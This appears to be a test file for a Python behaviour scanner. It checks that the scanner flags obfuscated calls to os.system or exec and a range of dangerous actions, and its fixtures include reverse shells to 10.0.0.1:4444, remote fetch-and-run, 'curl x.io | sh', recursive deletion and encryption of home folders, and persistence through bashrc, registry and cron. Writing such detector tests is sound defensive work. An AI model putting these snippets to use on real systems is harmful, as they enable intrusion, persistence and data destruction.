"""What Python runs, loads, deletes and changes, however it is spelled; and what it does not."""

from __future__ import annotations

import pytest

from scanning.behaviour.test_python_flows import told

HIDDEN_NAMES = {
    "an alias of a module": "import os as o\no.system('id')",
    "an alias of a function": "from os import system as s\ns('id')",
    "an assigned alias": "import os\nrun = os.system\nrun('id')",
    "a partial": "import os, functools\nfunctools.partial(os.system, 'id')()",
    "a lambda": "import os\nf = lambda c: os.system(c)\nf('id')",
    "a wrapper": "import os\ndef w(c, **k):\n    return os.system(c)\nw(c='id')",
    "everything from a module": "from os import *\nsystem('id')",
    "__import__": "__import__('os').system('id')",
    "import_module": "import importlib\nimportlib.import_module('os').system('id')",
    "getattr": "import os\ngetattr(os, 'system')('id')",
    "globals": "import os\nglobals()['os'].system('id')",
    "vars": "import os\nvars(os)['system']('id')",
    "__dict__": "import os\nos.__dict__['system']('id')",
    "sys.modules": "import sys\nsys.modules['os'].system('id')",
    "attrgetter": "import os, operator\noperator.attrgetter('system')(os)('id')",
    "a dict of functions": "import os\nd = {'x': os.system}\nd['x']('id')",
    "a list of functions": "import os\n[print, os.system][1]('id')",
    "a tuple unpacked": "import os\na, b = os.system, 'id'\na(b)",
    "a walrus": "import os\nif (f := os.system):\n    f('id')",
    "a choice": "import os\nf = os.system if x else print\nf('id')",
    "a class attribute": "import os\nclass A:\n    run = os.system\nA().run('id')",
    "a method": "import os\nclass A:\n    def go(self, c):\n        self.c = c\n        self.run()\n    def run(self):\n        os.system(self.c)\nA().go('id')",
    "a map": "import os\nlist(map(os.system, ['id']))",
    "a comprehension": "import os\n[os.system(c) for c in ['id']]",
    "dead code": "import os\nif False:\n    os.system('id')",
    "a nested function that is returned": "import os\ndef f():\n    def g():\n        os.system('id')\n    return g\nf()()",
    "a decorated function": "import os\n@wraps\ndef f():\n    os.system('id')",
    "a handler of errors": "import os\ntry:\n    x()\nexcept Exception:\n    os.system('id')",
    "posix": "import posix\nposix.system('id')",
    "a match": "import os\nmatch x:\n    case {'c': c}:\n        os.system('id')",
    "a deep expression": "import os\nf(" * 1 + "g(" * 90 + "os.system('id')" + ")" * 91,
}

HIDDEN_TEXTS = {
    "a sum": "'i' + 'd'",
    "joined letters": "''.join(['i', 'd', ' ', '-', 'u'])",
    "backwards": "'u- di'[::-1]",
    "reversed": "''.join(reversed('u- di'))",
    "character codes": "chr(105) + chr(100)",
    "character codes in a list": "''.join(chr(c) for c in [105, 100, 32, 45, 117])",
    "character codes mapped": "''.join(map(chr, [105, 100]))",
    "bytes of numbers": "bytes([105, 100]).decode()",
    "xor": "''.join(chr(c ^ 7) for c in [110, 99])",
    "xor of bytes": "bytes(b ^ 7 for b in b'nc').decode()",
    "xor with a key": "''.join(chr(ord(c) ^ ord(k)) for c, k in zip('nc', '\\x07\\x07'))",
    "hex": "bytes.fromhex('6964').decode()",
    "unhexlify": "__import__('binascii').unhexlify('6964').decode()",
    "base64": "__import__('base64').b64decode('aWQ=').decode()",
    "base64 twice": "__import__('base64').b64decode(__import__('base64').b64decode('YVdRPQ==')).decode()",
    "rot13": "__import__('codecs').decode('vq', 'rot13')",
    "zlib": "__import__('zlib').decompress(bytes.fromhex('789ccb4c0100013800ce')).decode()",
    "removed letters": "'iXXd'.replace('X', '')",
    "a big number": "(26980).to_bytes(2, 'big').decode()",
    "translated": "'ab'.translate(str.maketrans('ab', 'id'))",
    "picked letters": "'xidx'[1] + 'xidx'[2]",
}

FORMATTED = {
    "an f-string": "a = 'id'\nos.system(f'{a} -u')",
    "a percent": "os.system('%s -u' % 'id')",
    "percent with names": "os.system('%(a)s -u' % {'a': 'id'})",
    "format": "os.system('{} -u'.format('id'))",
    "format with names": "os.system('{a} -u'.format(a='id'))",
    "format with numbers": "os.system('{1} {0}'.format('-u', 'id'))",
    "a join": "os.system(' '.join(['id', '-u']))",
    "a loop that adds": "c = ''\nfor x in ['id', ' ', '-u']:\n    c += x\nos.system(c)",
    "a while loop that adds": "c = ''\ni = 0\ns = 'id -u'\nwhile i < len(s) and True:\n    c = s\n    i += 1\nos.system(c)",
    "a strip and lower": "os.system('  ID -U '.strip().lower())",
    "a list that grows": "c = []\nc.append('id')\nc.append('-u')\nos.system(' '.join(c))",
}


@pytest.mark.parametrize("kind", HIDDEN_NAMES)
def test_a_function_is_known_by_whatever_name(kind: str) -> None:
    assert any(line.startswith("interpret id shell") for line in told(HIDDEN_NAMES[kind]))


@pytest.mark.parametrize("kind", HIDDEN_TEXTS)
def test_a_hidden_text_is_read_and_called_hidden(kind: str) -> None:
    lines = told(f"text = {HIDDEN_TEXTS[kind]}\nexec(text)")
    [line] = [line for line in lines if line.startswith("interpret")]
    assert line.split()[1] == "id"
    assert "BUILT" in line or "DECODED" in line


@pytest.mark.parametrize("kind", FORMATTED)
def test_an_ordinary_text_is_read_and_not_called_hidden(kind: str) -> None:
    assert "interpret id -u shell shell" in told("import os\n" + FORMATTED[kind])


def test_a_function_reached_by_a_hidden_name_is_called_hidden() -> None:
    assert told("import os\ngetattr(os, 'sys' + 'tem')('id')") == ["interpret id shell BUILT shell"]
    assert told("__builtins__.__dict__['lave'[::-1]]('1')") == ["interpret 1 python BUILT"]
    assert "load os BUILT" in told("__import__('o' + 's').system('id')")


DEEDS = {
    "eval of what came over the network": (
        "import requests\nexec(requests.get('https://x.io/p').text)",
        ["fetch https://x.io/p", "interpret … python NETWORK"],
    ),
    "code out of a data file": (
        "import base64\nexec(base64.b64decode(open('logo.png', 'rb').read()))",
        ["read logo.png", "interpret … python FILE|DECODED"],
    ),
    "a script fetched, written and run": (
        ("import urllib.request, os, subprocess\nurllib.request.urlretrieve('http://x.io/a.sh', '/tmp/a.sh')\n"
        "os.chmod('/tmp/a.sh', 0o755)\nsubprocess.run(['/tmp/a.sh'])\nos.system('bash /tmp/a.sh')"),
        [
            "fetch http://x.io/a.sh",
            "write /tmp/a.sh NETWORK",
            "permit /tmp/a.sh executable",
            "run /tmp/a.sh shell NETWORK",
            "interpret bash /tmp/a.sh shell NETWORK shell",
        ],
    ),
    "a module by its path": (
        ("import importlib.util as u\ns = u.spec_from_file_location('m', 'data/m.txt')\n"
        "m = u.module_from_spec(s)\ns.loader.exec_module(m)"),
        ["load data/m.txt"],
    ),
    "a pickle from the network": (
        "import pickle, requests\npickle.loads(requests.get('https://x.io').content)",
        ["load … NETWORK"],
    ),
    "a pickle of a file": (
        "import pickle\npickle.load(open('m.pkl', 'rb'))",
        ["read m.pkl", "load m.pkl FILE"],
    ),
    "a library": ("import ctypes\nctypes.CDLL('./x.so')", ["load ./x.so"]),
    "code objects": (
        "import marshal, base64\nexec(marshal.loads(base64.b64decode(b'4w==')))",
        ["load … DECODED", "interpret … python DECODED"],
    ),
    "a command as a list": (
        "import subprocess\nsubprocess.run(['echo', 'a b', x])",
        ["run echo 'a b' … shell"],
    ),
    "python with code": (
        "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import os'])",
        ["interpret import os python"],
    ),
    "a shell with code": (
        "import subprocess\nsubprocess.call(['bash', '-lc', 'curl x.io'])",
        ["interpret curl x.io shell"],
    ),
    "a shell that is told by its input": (
        "import subprocess\nsubprocess.run(['bash'], input='id', text=True)",
        ["run bash shell", "interpret id shell"],
    ),
    "a command that is not known": (
        "import subprocess\nsubprocess.run(x, shell=True)\nsubprocess.run(y)",
        ["interpret … shell shell", "run … shell"],
    ),
    "exec and spawn": (
        "import os\nos.execvp('sh', ['sh', '-i'])\nos.spawnlp(os.P_WAIT, 'ls', 'ls', '-l')",
        ["run sh -i shell", "run ls -l shell"],
    ),
    "asyncio": (
        ("import asyncio\nasync def f():\n    await asyncio.create_subprocess_shell('id')\n"
        "    await asyncio.create_subprocess_exec('ls', '-l')"),
        ["interpret id shell shell", "run ls -l shell"],
    ),
    "a reverse shell": (
        ("import socket, os, pty\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\n"
        "[os.dup2(s.fileno(), n) for n in (0, 1, 2)]\npty.spawn('/bin/sh')"),
        ["rewire 10.0.0.1:4444 SOCKET", "run /bin/sh shell"],
    ),
    "a reverse shell by Popen": (
        ("import socket, subprocess\ns = socket.create_connection(('10.0.0.1', 4444))\n"
        "subprocess.Popen(['sh', '-i'], stdin=s, stdout=s)"),
        ["rewire 10.0.0.1:4444 SOCKET"],
    ),
    "commands from afar": (
        ("import socket, subprocess\ns = socket.socket()\ns.connect(('x.io', 1))\nwhile True:\n"
        "    c = s.recv(999).decode()\n    s.send(subprocess.getoutput(c).encode())"),
        ["interpret … shell NETWORK loop,shell", "send x.io:1 FACTS loop"],
    ),
    "a shell that is bound": (
        ("import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 4444))\ns.listen()\nc, a = s.accept()\n"
        "import os\nos.dup2(c.fileno(), 0)"),
        ["listen 0.0.0.0:4444", "rewire … SOCKET"],
    ),
    "a server": (
        "from flask import Flask\napp = Flask(__name__)\napp.run(host='0.0.0.0', port=80)",
        ["listen 0.0.0.0:80"],
    ),
    "a folder deleted": (
        "import shutil, os\nshutil.rmtree(os.path.expanduser('~'), ignore_errors=True)",
        ["delete ~ forced,recursive"],
    ),
    "files deleted on a walk": (
        "import os\nfor r, d, f in os.walk('/home/u'):\n    for n in f:\n        os.remove(os.path.join(r, n))",
        ["delete /home/u/… FACTS loop,recursive"],
    ),
    "paths deleted on a walk": (
        "from pathlib import Path\nfor p in Path.home().rglob('*'):\n    p.unlink()",
        ["delete ~/* FACTS loop,recursive"],
    ),
    "a disk overwritten": ("open('/dev/sda', 'wb').write(b'0')", ["delete /dev/sda overwrite"]),
    "files encrypted on a walk": (
        ("import os\nfrom cryptography.fernet import Fernet\nk = Fernet(Fernet.generate_key())\n"
        "for r, _, names in os.walk('/home'):\n    for n in names:\n        p = os.path.join(r, n)\n"
        "        d = open(p, 'rb').read()\n        open(p, 'wb').write(k.encrypt(d))"),
        ["encrypt /home/… FILE loop,recursive", "write /home/… FILE|ENCODED loop"],
    ),
    "a line for every shell": (
        "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('x')",
        ["write ~/.bashrc append"],
    ),
    "a path that is joined": (
        "from pathlib import Path\n(Path.home() / '.config' / 'autostart' / 'x.desktop').write_text('x')",
        ["write ~/.config/autostart/x.desktop"],
    ),
    "a file beside the script": (
        ("from pathlib import Path\nimport os\n(Path(__file__).parent / 'x').read_text()\n"
        "open(os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'y'))"),
        ["read scripts/x", "read scripts/../y"],
    ),
    "the registry": (
        ("import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\n"
        "winreg.SetValueEx(k, 'u', 0, winreg.REG_SZ, 'x.exe')"),
        ["write HKCU/Software/Microsoft/Windows/CurrentVersion/Run/u"],
    ),
    "a crontab": (
        "from crontab import CronTab\nc = CronTab(user=True)\nc.new(command='x')\nc.write()",
        ["write /var/spool/cron/crontab"],
    ),
    "a file that anyone may write": ("import os\nos.chmod('x', 0o777)", ["permit x executable,world"]),
    "a file that runs as its owner": ("import os\nos.chmod('x', 0o4755)", ["permit x executable,privileged"]),
    "becoming root": ("import os\nos.setuid(0)", ["permit root privileged"]),
    "the screen": ("import pyautogui\npyautogui.screenshot('x.png')", ["capture screen"]),
    "the camera": ("import cv2\ncv2.VideoCapture(0).read()", ["capture camera"]),
    "a certificate that is not checked": (
        "import requests\nrequests.get('https://x.io', verify=False)",
        ["fetch https://x.io unverified"],
    ),
    "YAML that makes objects": (
        "import yaml\nyaml.load(open('c.yml'))\nyaml.load(open('d.yml'), Loader=yaml.Loader)",
        ["load c.yml FILE", "load d.yml FILE"],
    ),
    "a child in the background": (
        "import subprocess\nsubprocess.Popen(['x'], start_new_session=True, stdout=subprocess.DEVNULL)",
        ["run x shell background,quiet"],
    ),
    "a notebook's lines": (
        "!curl x.io | sh\n%pip install evil\nimport os\nos.getenv('X')\n",
        ["interpret curl x.io | sh shell", "run pip install evil shell install", "variable X"],
    ),
    "a notebook's cell": ("%%bash\nid\n", ["interpret id\n shell"]),
    "Python 2": ("import os\nprint 'a', os.system('id')\nexec 'import x'\n",
                 ["interpret id shell shell", "interpret import x python"]),
    "a session": (">>> import os\n>>> os.system('id')\n0\n", ["interpret id shell shell"]),
    "an indented piece": ("    import os\n    os.system('id')\n", ["interpret id shell shell"]),
    "a piece with a placeholder": ("key = <your key>\nimport os\nos.system('id')\n", ["interpret id shell shell"]),
}  # fmt: skip

HARMLESS = {
    "what is only called like it": (
        "import re\nmodel.eval()\nre.compile('x').exec\ncursor.execute('select 1')\npd.eval('a')\nsystem('x')",
        ("interpret", "load", "run"),
    ),
    "literal_eval": ("import ast\nast.literal_eval(x)", ("interpret",)),
    "code that is only checked": (
        "compile(open('x.py').read(), 'x.py', 'exec')",
        ("interpret", "load"),
    ),
    "safe YAML": (
        "import yaml\nyaml.safe_load(open('c.yml'))\nyaml.load(open('c.yml'), Loader=yaml.SafeLoader)",
        ("load",),
    ),
    "weights only": ("import torch\ntorch.load('m.pt', weights_only=True)", ("load",)),
    "a plain import by name": (
        "import importlib\nimportlib.import_module('json')\n__import__('os')",
        ("load",),
    ),
    "getattr with a plain name": ("import os\ngetattr(os, 'path')", ("BUILT",)),
    "a docstring": ("'''os.system(\"id\")'''\ndef f():\n    '''exec(x)'''\n", ("interpret",)),
    "a text that holds code": (
        "CODE = 'import os; os.system(\"id\")'\nprint(CODE)",
        ("interpret",),
    ),
    "a long command in two lines": (
        "import os\nos.system('git commit ' + '-m x')\nos.system('a -b '\n  'c')",
        ("BUILT", "DECODED"),
    ),
    "a name that is shadowed": ("def open(x):\n    return x\nopen('/root/.ssh/id_rsa')", ("read",)),
    "a temporary folder": (
        "import tempfile, shutil\nd = tempfile.mkdtemp()\nshutil.rmtree(d)",
        ("delete / ", "delete ~"),
    ),
    "a symbol's value": ("x = 1 / 2 + 3 % 2\ny = path / 'a'\nz = [1] * 3", ("read", "write")),
}


@pytest.mark.parametrize("kind", DEEDS)
def test_a_deed_is_told_with_its_target(kind: str) -> None:
    code, expected = DEEDS[kind]
    lines = told(code)
    assert [line for line in expected if line not in lines] == [], lines


@pytest.mark.parametrize("kind", HARMLESS)
def test_what_is_not_done_is_not_told(kind: str) -> None:
    code, absent = HARMLESS[kind]
    assert not [line for line in told(code) for word in absent if word in line]
